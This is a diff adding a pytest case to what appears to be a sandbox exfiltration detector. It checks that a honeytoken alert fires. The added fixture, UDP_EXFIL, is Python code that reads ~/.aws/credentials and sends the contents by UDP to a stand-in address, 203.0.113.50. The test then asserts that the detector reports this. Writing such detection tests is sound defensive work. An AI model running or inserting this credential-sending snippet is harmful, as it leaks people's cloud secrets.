@@ -227,3 +227,22 @@ def test_host_only_variables_are_left_out_in_the_sandbox(
     names = (ws / "env.txt").read_text().split()
     assert "KEEP_ME" in names and "QUIET_ON_HOST" not in names
     assert not [n for n in names if "PROXY" in n.upper()]  # the redirect needs no proxy variables
+
+
+UDP_EXFIL = """
+import os, socket
+key = open(os.path.expanduser("~/.aws/credentials")).read()
+u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+u.sendto(key.encode(), ("203.0.113.50", 9999))
+"""
+
+
+def test_a_secret_in_a_udp_datagram_is_found(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    doc = _run_json(tmp_path, UDP_EXFIL, capsys)
+    events = doc["events"]
+    assert isinstance(events, list)
+    hits = [e for e in events if e["kind"] == "honeytoken"]
+    assert {(e["host"], e["path"]) for e in hits} == {("203.0.113.50", "~/.aws/credentials")}
+    assert all("udp packet" in e["detail"] for e in hits)
